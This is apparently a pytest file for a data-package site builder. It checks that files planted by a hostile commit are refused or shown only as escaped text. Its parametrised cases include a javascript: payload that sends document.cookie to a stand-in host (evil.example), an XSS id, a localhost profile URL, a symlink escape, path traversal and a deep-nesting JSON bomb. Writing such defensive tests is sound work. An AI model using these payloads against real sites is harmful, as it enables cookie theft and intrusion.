"""What a commit could plant in the built files that the site, the validation and the release read
without building first (datapackage.json, data/, gx/, dist/): refused with a message naming the
file, or shown as text, never followed, fetched or run (issue: a hostile commit)."""

from __future__ import annotations

import csv
import html
import io
import json
from urllib.parse import quote

import pytest
from conftest import ROOT, copy_parts

from pledges.errors import BuildFailed
from pledges.inputs.metadata import read_datapackage
from pledges.publish.site import build_site

pytestmark = pytest.mark.slow  # builds sites of copies of the package (make quick leaves it out)

BUILT = ("data", "schemas", "seeds", "datapackage.json", "CITATION.cff")


def edit_descriptor(root, change) -> None:
    path = root / "datapackage.json"
    package = json.loads(path.read_text(encoding="utf-8"))
    change(package)
    path.write_text(json.dumps(package), encoding="utf-8")


@pytest.mark.parametrize("change, named", [
    (lambda p: p["licenses"][0].update(path="javascript:fetch('//evil.example/?'+document.cookie)"), "licenses"),
    (lambda p: p["resources"][0].update(extrapaths=["evil.csv"]), "extrapaths"),  # Frictionless would read it
    (lambda p: p["resources"][0].update(dialect="dialect.json"), "dialect"),
    (lambda p: p.update(profile="http://127.0.0.1:9/profile.json"), "profile"),  # ... or fetch it
    (lambda p: p.update(resources=[]), "resources"),
    (lambda p: p["resources"][0].update(scheme="https"), "scheme"),
])
def test_a_datapackage_json_the_build_would_not_write_is_refused_naming_the_key(tmp_path, change, named):
    root = copy_parts(tmp_path, BUILT)
    edit_descriptor(root, change)
    with pytest.raises(BuildFailed) as refused:
        read_datapackage(root)
    assert any(named in str(p) for p in refused.value.problems), refused.value.problems


def test_an_id_in_the_data_never_becomes_an_address_on_a_page(tmp_path):
    """A fact id in data/links.csv such as "javascript:..." links to a page of the site, quoted,
    never to a script."""
    root = copy_parts(tmp_path, BUILT)
    schema = root / "schemas" / "links.json"  # a commit can drop the foreign key that would refuse it
    links = json.loads(schema.read_text(encoding="utf-8"))
    links["foreignKeys"] = [k for k in links["foreignKeys"] if k["fields"] != ["other_fact_id"]]
    for field in links["fields"]:  # ... and the pattern
        if field["name"] == "other_fact_id":
            field["constraints"].pop("pattern", None)
    schema.write_text(json.dumps(links), encoding="utf-8")
    path = root / "data" / "links.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows, "the package has links"
    hostile = "javascript:alert(document.domain)//"
    rows[0]["other_fact_id"] = hostile
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    edit_descriptor(root, lambda p: [r.update(bytes=len(out.getvalue().encode()))
                                     for r in p["resources"] if r["name"] == "links"])
    build_site(root, tmp_path / "site")
    for page in (tmp_path / "site").rglob("*.html"):
        assert 'href="javascript' not in page.read_text(encoding="utf-8"), page
    # ... and the link is there, to a page of the site named by the id quoted, the id shown as text
    page = (tmp_path / "site" / "pledges" / f"{rows[0]['fact_id']}.html").read_text(encoding="utf-8")
    assert f'<a href="./{quote(hostile)}.html">{html.escape(hostile)}</a>' in page


def test_a_site_that_cannot_be_built_leaves_the_previous_one_whole(tmp_path):
    root = copy_parts(tmp_path, BUILT)
    site = tmp_path / "site"
    build_site(root, site)
    before = {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()}
    (root / "seeds" / next(p.name for p in (root / "seeds").glob("*.txt"))).write_bytes(b"changed")
    with pytest.raises(Exception) as failed:
        build_site(root, site)
    assert "seed" in str(failed.value)
    assert {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()} == before
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site-")] == []  # no staging left


def test_the_site_is_built_from_this_checkouts_documents_through_the_file_layer():
    from pledges.publish.site import document

    assert "statuses:start" not in document("docs/methodology.md")  # generated markers are not shown
    with pytest.raises(Exception, match="outside|not a plain|does not exist|No such"):
        document("../outside.md")


def test_the_committed_package_passes_the_descriptor_checks():
    assert read_datapackage(ROOT)["resources"]


def test_a_planted_zip_is_never_completed_into_a_release(tmp_path, monkeypatch):
    """A zip in dist/ with the release's name but other data is not taken as a release cut short:
    no database, workbook or sums are made from it."""
    import zipfile

    from pledges.publish import release

    root = copy_parts(tmp_path / "p", ("data", "datapackage.json", "schemas", "seeds", "README.md", "LICENSE.md",
                                       "CITATION.cff", "CHANGELOG.md", "verify.py"))
    monkeypatch.setattr(release, "check_releasable", lambda root, version: None)  # no git checkout here
    package = read_datapackage(root)
    folder = f"{package['name']}-{package['version']}"
    planted = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(release.zip_bytes(root, folder))) as real, zipfile.ZipFile(planted, "w") as fake:
        for info in real.infolist():
            data = real.read(info)
            fake.writestr(info, data.replace(b"Microsoft", b"EVIL-CORP") if info.filename.endswith(".csv") else data)
    (root / "dist").mkdir()
    (root / "dist" / f"{folder}.zip").write_bytes(planted.getvalue())
    with pytest.raises(release.Refused, match="not the release this checkout makes"):
        release.release(root)
    assert sorted(p.name for p in (root / "dist").iterdir()) == [f"{folder}.zip"]


def test_a_table_edited_by_hand_is_refused_by_the_site_naming_it(tmp_path):
    root = copy_parts(tmp_path, BUILT)
    path = root / "data" / "claims.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text(lines[0] + "short,row\n" + "".join(lines[1:]), encoding="utf-8")
    with pytest.raises(BuildFailed, match="data/claims.csv"):
        build_site(root, tmp_path / "site")
    assert not (tmp_path / "site").exists()


def test_the_site_is_built_twice_alike_and_a_link_met_by_a_worker_stops_it_naming_it(tmp_path):
    """Two builds give the same bytes, pages, charts and downloads alike; the downloads are made in
    worker processes, and what one of them refuses reaches the command whole (the file and the
    reason), the previous site left as it was."""
    from pledges.files import Unsafe

    root = copy_parts(tmp_path / "p", BUILT)
    first, site = tmp_path / "first", tmp_path / "site"
    build_site(root, first)
    build_site(root, site)
    made = {p.relative_to(first): p.read_bytes() for p in first.rglob("*") if p.is_file()}
    assert any(p.suffix == ".xlsx" for p in made) and any(p.suffix == ".sqlite" for p in made)
    assert {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()} == made
    outside = tmp_path / "outside.cff"
    outside.write_text("cff-version: 1.2.0\n", encoding="utf-8")
    (root / "CITATION.cff").unlink()
    (root / "CITATION.cff").symlink_to(outside)
    with pytest.raises(Unsafe, match=r"CITATION\.cff: .*link") as refused:
        build_site(root, site)
    assert refused.value.path == "CITATION.cff"
    assert {p.relative_to(site): p.read_bytes() for p in site.rglob("*") if p.is_file()} == made


def test_a_datapackage_json_nested_too_deep_is_refused_naming_it(tmp_path):
    root = copy_parts(tmp_path, BUILT)
    (root / "datapackage.json").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    with pytest.raises(BuildFailed, match="datapackage.json"):
        read_datapackage(root)
